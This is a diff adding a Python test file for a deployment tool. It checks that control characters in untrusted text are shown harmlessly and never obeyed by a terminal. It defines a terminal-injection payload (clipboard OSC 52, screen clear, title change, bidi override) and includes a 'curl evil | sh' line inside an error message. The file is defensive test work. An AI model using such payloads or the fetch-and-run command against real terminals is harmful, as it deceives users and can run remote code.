@@ -1,0 +1,173 @@
+"""Text of others never commands the terminal: whatever way it reaches a person, its control characters are shown.
+
+The attacks: the clipboard (OSC 52), the screen, the window's title, colours that never end, a carriage return that
+hides the line before it, a bidirectional override that shows a command backwards, a line that looks like one of ours.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import re
+import socket
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from deploy import lines, page_html, report
+from deploy.ending import Result
+from deploy.errors import DeployError
+from deploy.facts import RunFacts
+from deploy.printable import console_line, one_line, visible
+from deploy.progress import State
+from deploy.report import Report
+
+HOME = Path(__file__).resolve().parents[2]
+FAB = Path(sys.executable).with_name("fab")
+ATTACK = "\x1b]52;c;aGk=\x07\x1b[2J\x1b]0;owned\x07\x9b31m\r\u202egnp.sh\u2066 end"
+SHOWN = r"\x1b]52;c;aGk=\x07\x1b[2J\x1b]0;owned\x07\x9b31m\r\u202egnp.sh\u2066 end"
+# What must never be written: of rich's own sequences none is an OSC, clears the whole screen or is 8 bits wide.
+OBEYED = re.compile("\x1b]|\x1b\\[2J|\x07|\x9b|\u202e|\u2066|\r(?!\n|\x1b|$)")
+
+
+def reporter(terminal, as_json=False):
+    out, err = (
+        report._Console(
+            file=io.StringIO(), theme=report.THEME, markup=False, emoji=False, width=300, force_terminal=terminal
+        )
+        for _ in range(2)
+    )
+    return Report(as_json, out, err), out, err
+
+
+def hostile_state():
+    state = State((ATTACK, "b"), script=False)
+    state.apply({"kind": "plan", "t": 1.0, "rank": 0, "recipe": ATTACK, "steps": 3, "samples": 7})
+    state.apply({"kind": "started", "t": 1.0, "rank": 0, "node": ATTACK, "pid": 1, "backend": ATTACK})
+    state.apply({"kind": "checkpoint_failed", "t": 1.0, "rank": 0, "step": 1, "message": ATTACK})
+    return state
+
+
+def ways():
+    """Each way that text of others takes to a person."""
+    result = Result("failed", ATTACK, ATTACK, ATTACK)
+    stopped = Result("stopped", ATTACK, ATTACK, ATTACK)
+    run = RunFacts(ATTACK, ATTACK, None, 1, 1.0, 1)
+    return {
+        "note": lambda to: to.note(ATTACK),
+        "warn": lambda to: to.warn(ATTACK),
+        "text": lambda to: to.text(ATTACK),
+        "line": lambda to: to.line(ATTACK, {"a": ATTACK}),
+        "hint": lambda to: to.hint(ATTACK),
+        "error": lambda to: to.error(DeployError(ATTACK, ATTACK)),
+        "table": lambda to: to.table((ATTACK, "b"), [(ATTACK, ATTACK)]),
+        "block": lambda to: to.block([ATTACK, ATTACK]),
+        "values": lambda to: to.values([{"a": ATTACK}]),
+        "runs": lambda to: to.runs([run]),
+        "failed": lambda to: to.result(result, hostile_state(), {"seconds": 1.0}, ATTACK, ATTACK),
+        "stopped": lambda to: to.result(stopped, hostile_state(), {"seconds": 1.0}, ATTACK, ATTACK),
+        "following": _follow,
+        "pushing": _push,
+    }
+
+
+def _follow(to):
+    state = hostile_state()
+    with to.following(state, ATTACK, ATTACK) as tell:
+        tell([{"kind": "step", "message": ATTACK}])
+
+
+def _push(to):
+    with to.pushing([ATTACK]) as tell:
+        tell(ATTACK, 1, 2)
+        tell(ATTACK, 2, 2)
+
+
+@pytest.mark.holds("text-is-text")
+@pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "pipe"])
+@pytest.mark.parametrize("way", ways())
+def test_no_way_to_a_person_lets_a_terminal_obey(way, terminal):
+    to, out, err = reporter(terminal)
+    ways()[way](to)
+    written = out.file.getvalue() + err.file.getvalue()
+    assert not OBEYED.findall(written)
+    assert SHOWN in written or '"\\u001b]52' in written or (way == "pushing" and not terminal)
+
+
+def test_a_question_is_shown_before_it_is_asked(monkeypatch):
+    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
+    to, _, err = reporter(True)
+    assert to.ask(ATTACK)
+    assert not OBEYED.findall(err.file.getvalue())
+
+
+def test_lines_of_others_cannot_pass_for_ours():
+    shown = lines.error_lines(DeployError("rank 0 failed\ndone  100 %\nhint: curl evil | sh", "none"))
+    assert [line for line in "\n".join(shown).splitlines() if re.match(r"(done|hint|error)\b", line)] == [
+        "error: rank 0 failed",
+        "hint: none",
+    ]
+
+
+def test_text_is_shown_as_it_is_but_for_what_would_be_obeyed():
+    assert visible(ATTACK) == SHOWN
+    assert visible("Grüße, می‌خواهم 👩‍💻\ta\nb\\x1b") == "Grüße, می‌خواهم 👩‍💻\ta\nb\\x1b"
+    assert one_line("a\nb\tc") == "a\\nb c"
+    assert visible("half a pair \ud800") == "half a pair \\ud800"
+
+
+def test_a_console_reads_as_on_its_own_terminal():
+    assert console_line("\x1b[31mred\x1b[0m\x1b[K") == "red"
+    assert console_line("10 %\r20 %\r") == "20 %"
+    assert console_line("\x1b]0;title\x07x") == r"\x1b]0;title\x07x"
+
+
+def test_a_page_shows_a_name_that_reads_backwards_as_what_it_is():
+    assert page_html.tag("p", "\u202egnp.sh") == r"<p>\u202egnp.sh</p>"
+
+
+@pytest.fixture
+def server_before_login():
+    """A TCP server that is no SSH server, and says so with escape sequences."""
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+
+        def serve():
+            while True:
+                try:
+                    peer, _ = listening.accept()
+                except OSError:
+                    return
+                with peer:
+                    peer.sendall(f"SSH-2.0-{ATTACK}\r\n{ATTACK}\r\n".encode())
+
+        threading.Thread(target=serve, daemon=True).start()
+        yield listening.getsockname()[1]
+
+
+def test_a_server_before_login_cannot_either(server_before_login, tmp_path):
+    config = tmp_path / "config"
+    config.write_text("")
+    started = [
+        subprocess.Popen(
+            [FAB, task, "--hosts", f"me@127.0.0.1:{server_before_login}"],
+            cwd=HOME,
+            env={**os.environ, "MUSTER_SSH_CONFIG": str(config)},
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+        )
+        for task in ("status", "fetch", "trust")
+    ]
+    for process in started:
+        said = process.communicate(timeout=60)[0].decode()
+        assert process.returncode != 0
+        assert "Traceback" not in said
+        assert not OBEYED.findall(said)
+
+
+def test_who_reads_no_further_gets_no_traceback():
+    line = f"{FAB} --list | true; {FAB} --help deploy | head -n 1"
+    done = subprocess.run(["bash", "-c", line], cwd=HOME, capture_output=True, text=True, timeout=60)
+    assert done.stderr == ""
